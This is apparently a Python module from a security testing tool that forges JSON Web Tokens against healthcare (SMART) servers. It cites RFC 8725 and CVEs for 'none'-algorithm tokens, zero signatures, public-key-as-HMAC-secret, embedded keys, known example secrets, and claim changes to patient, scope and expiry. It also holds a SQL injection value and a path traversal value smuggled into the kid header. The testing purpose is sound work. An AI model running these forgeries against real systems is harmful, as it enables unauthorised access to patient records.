"""Signed tokens as a forger would make them from one that was issued: by no key, by a public one, by one of one's own.

Source: RFC 8725, sections 2 and 3 (best practice for JWTs), and the advisories named beside each.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from collections.abc import Callable, Iterable, Mapping
from typing import Any

from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt import PyJWK, PyJWTError

from payerproof.smart.discovery import json_object

_SECRETS = ("secret", "changeit", "password", "your-256-bit-secret")
"""Secrets of examples and documentation, which were found in use."""
_WEEK = 7 * 24 * 3600

Forgery = Callable[[str, Iterable[Any]], str | None]
"""From a token and the published keys to a forged one; None where it cannot be made of these."""


def parts_of(token: str) -> tuple[dict[str, Any], dict[str, Any], str] | None:
    """Return header, claims and signature of a JWT in its compact form, None for anything else."""
    parts = token.split(".")
    if len(parts) != 3:  # noqa: PLR2004 - header, claims, signature
        return None
    header, claims = (_decoded(part) for part in parts[:2])
    return (header, claims, parts[2]) if header is not None and claims is not None else None


def _decoded(text: str) -> dict[str, Any] | None:
    try:
        return json_object(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4)))
    except (binascii.Error, ValueError):
        return None


def _coded(part: Mapping[str, Any] | bytes) -> str:
    content = part if isinstance(part, bytes) else json.dumps(part, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(content).decode().rstrip("=")


def _unsigned(algorithm: str) -> Forgery:
    """Return a forgery that names an algorithm which signs nothing, in one spelling (RFC 8725, 3.1; CVE-2015-9235)."""

    def forge(token: str, _keys: Iterable[Any]) -> str | None:
        found = parts_of(token)
        return f"{_coded({**found[0], 'alg': algorithm})}.{token.split('.')[1]}." if found else None

    return forge


def _with_claims(changes: Callable[[Mapping[str, Any]], Mapping[str, Any]]) -> Forgery:
    """Return a forgery that changes claims and keeps header and signature."""

    def forge(token: str, _keys: Iterable[Any]) -> str | None:
        found = parts_of(token)
        return (
            f"{token.split('.', maxsplit=1)[0]}.{_coded({**found[1], **changes(found[1])})}.{found[2]}"
            if found
            else None
        )

    return forge


def _by_secret(secret: bytes, **header: str) -> Forgery:
    """Return a forgery signed with HS256 and a secret that everybody knows."""

    def forge(token: str, _keys: Iterable[Any]) -> str | None:
        found = parts_of(token)
        return _hashed({**found[0], "alg": "HS256", **header}, found[1], secret) if found else None

    return forge


def _hashed(header: Mapping[str, Any], claims: Mapping[str, Any], secret: bytes) -> str:
    text = f"{_coded(header)}.{_coded({**claims, 'payerproof': 'forged'})}"
    return f"{text}.{_coded(hmac.digest(secret, text.encode(), hashlib.sha256))}"


def _by_public_key(ending: bytes) -> Forgery:
    """Return a forgery signed with HS256 and the text of the server's public key (RFC 8725, 2.1; CVE-2016-10555)."""

    def forge(token: str, keys: Iterable[Any]) -> str | None:
        found = parts_of(token)
        text = _text_of(keys, found[0].get("kid")) if found else None
        return _hashed({**found[0], "alg": "HS256"}, found[1], text.strip() + ending) if found and text else None

    return forge


def _text_of(keys: Iterable[Any], wanted: Any) -> bytes | None:
    """Return the PEM of the published key that signs, of the first one where none is named."""
    listed = [key for key in keys if isinstance(key, dict)]
    for key in sorted(listed, key=lambda each: each.get("kid") != wanted):
        try:
            public = PyJWK.from_dict({name: value for name, value in key.items() if isinstance(value, str)}).key
            return bytes(public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
        except (PyJWTError, ValueError, TypeError, AttributeError):
            continue
    return None


def _by_own_key(place: str) -> Forgery:
    """Return a forgery signed with a key that the token brings along itself (RFC 8725, 3.10; CVE-2018-0114)."""

    def forge(token: str, _keys: Iterable[Any]) -> str | None:
        found = parts_of(token)
        if found is None:
            return None
        key = rsa.generate_private_key(65537, 2048)
        numbers = key.public_key().public_numbers()
        modulus, exponent = (_coded(each.to_bytes((each.bit_length() + 7) // 8)) for each in (numbers.n, numbers.e))
        public = {"kty": "RSA", "alg": "RS256", "use": "sig", "kid": "own", "n": modulus, "e": exponent}
        brought = {"jwk": {"jwk": public, "kid": "own"}, "none": {}}[place]
        text = f"{_coded({**found[0], 'alg': 'RS256', **brought})}.{_coded({**found[1], 'payerproof': 'forged'})}"
        return f"{text}.{_coded(key.sign(text.encode(), padding.PKCS1v15(), SHA256()))}"

    return forge


def _of_zeros(token: str, _keys: Iterable[Any]) -> str | None:
    """Return a forgery with ES256 and a signature of zeros, which a faulty curve takes for right (CVE-2022-21449)."""
    found = parts_of(token)
    return f"{_coded({**found[0], 'alg': 'ES256'})}.{token.split('.')[1]}.{_coded(bytes(64))}" if found else None


def _emptied(token: str, _keys: Iterable[Any]) -> str | None:
    """Return the token with its own header and claims, and no signature."""
    return f"{token.rpartition('.')[0]}." if parts_of(token) else None


FORGERIES: Mapping[str, Forgery] = {
    "a JWT without its signature": _unsigned("none"),
    "a JWT by the algorithm None": _unsigned("None"),
    "a JWT by the algorithm NONE": _unsigned("NONE"),
    "a JWT by the algorithm nOnE": _unsigned("nOnE"),
    "a JWT with an empty signature": _emptied,
    "a JWT with a signature of zeros": _of_zeros,
    "a JWT with another patient": _with_claims(lambda _: {"patient": "payerproof", "sub": "payerproof"}),
    "a JWT with a wider scope": _with_claims(lambda _: {"scope": "user/*.* system/*.*", "scp": ["system/*.*"]}),
    "a JWT with a later end": _with_claims(lambda claims: {"exp": _later(claims.get("exp"))}),
    "a JWT signed with the public key as a secret": _by_public_key(b"\n"),
    "a JWT signed with the public key without its last line break": _by_public_key(b""),
    "a JWT signed with an empty secret": _by_secret(b""),
    "a JWT signed with an empty file as its key": _by_secret(b"", kid="../../../../../../dev/null"),
    "a JWT signed with the result of its kid": _by_secret(b"x", kid="none' UNION SELECT 'x"),
    "a JWT signed with a key that it brings along": _by_own_key("jwk"),
    "a JWT signed with another key": _by_own_key("none"),
    **{f"a JWT signed with the secret of an example, {name}": _by_secret(name.encode()) for name in _SECRETS},
}
"""Each forgery by its name."""


def _later(ends: Any) -> float:
    return (ends if isinstance(ends, int | float) else 0) + _WEEK
